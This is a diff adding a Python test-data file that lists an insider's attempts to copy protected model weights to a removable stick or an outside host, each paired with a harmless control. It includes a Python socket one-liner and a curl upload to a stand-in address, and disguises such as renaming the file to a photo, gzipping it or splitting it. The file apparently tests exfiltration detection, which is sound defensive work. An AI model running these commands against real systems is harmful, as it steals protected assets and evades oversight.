@@ -1,0 +1,48 @@
+# SPDX-License-Identifier: Apache-2.0
+"""What an insider tries, and what honest work looks like, as data. Verdicts are observed, never assumed.
+
+Commands run under `bash -c` with: MODEL the protected model, PLAIN an unclassified file, GGUF a conversion that was
+made before the model was registered, WORK a scratch folder on disk, STICK the stick, STRANGER and APPROVED the
+addresses outside, CA the receiver's certificate. `prepare` may produce derived files; only `command` is judged.
+"""
+from dataclasses import dataclass
+
+SEND = ("/usr/bin/python3 -c 'import socket,sys; s=socket.create_connection((sys.argv[1],9000)); "
+        "s.sendall(open(sys.argv[2],\"rb\").read()); s.close()'")
+TRAIN = ("/usr/bin/python3 -c 'import socket,sys; w=open(sys.argv[2],\"rb\").read(); assert len(w) > 1<<20; "
+         "s=socket.create_connection((sys.argv[1],9000)); [s.sendall(bytes(1024)) for _ in range(100)]; s.close()'")
+UPLOAD = "curl -sS --max-time 60 --cacert $CA -T"
+
+
+@dataclass(frozen=True)
+class Attempt:
+    name: str
+    sink: str              # "removable" or "network"
+    command: str
+    prepare: str = ":"
+
+
+# {file} is $MODEL for the insider and $PLAIN for the control, so that both walk the same ways.
+WAYS = [
+    Attempt("cp", "removable", "cp {file} $STICK/"),
+    Attempt("mv", "removable", "mv $WORK/moved.bin $STICK/", "cp {file} $WORK/moved.bin"),
+    Attempt("dd", "removable", "dd if={file} of=$STICK/dd.bin bs=256K status=none"),
+    Attempt("rsync", "removable", "rsync {file} $STICK/"),
+    Attempt("tar c > stick", "removable", "tar cf - -C $(dirname {file}) $(basename {file}) > $STICK/backup.tar"),
+    Attempt("renamed copy", "removable", "cp $WORK/holiday.jpg $STICK/", "cp {file} $WORK/holiday.jpg"),
+    Attempt("gzip'd copy", "removable", "cp $WORK/notes.gz $STICK/", "gzip -1 -c {file} > $WORK/notes.gz"),
+    Attempt("split piece", "removable", "cp $WORK/part.ab $STICK/", "split -b 1M {file} $WORK/part."),
+    Attempt("curl upload over TLS", "network", UPLOAD + " {file} https://$STRANGER:9443/upload"),
+    Attempt("Python socket upload", "network", SEND + " $STRANGER {file}"),
+]
+
+INSIDER = [Attempt(way.name, way.sink, way.command.replace("{file}", "$MODEL"),
+                   way.prepare.replace("{file}", "$MODEL")) for way in WAYS] + [
+    Attempt("GGUF conversion made before registration", "removable", "cp $GGUF $STICK/"),
+]
+
+HONEST = [Attempt("unclassified: " + way.name, way.sink, way.command.replace("{file}", "$PLAIN"),
+                  way.prepare.replace("{file}", "$PLAIN")) for way in WAYS] + [
+    Attempt("training: reads the weights, sends 100 KiB of metrics to an approved place", "network",
+            TRAIN + " $APPROVED $MODEL"),
+]
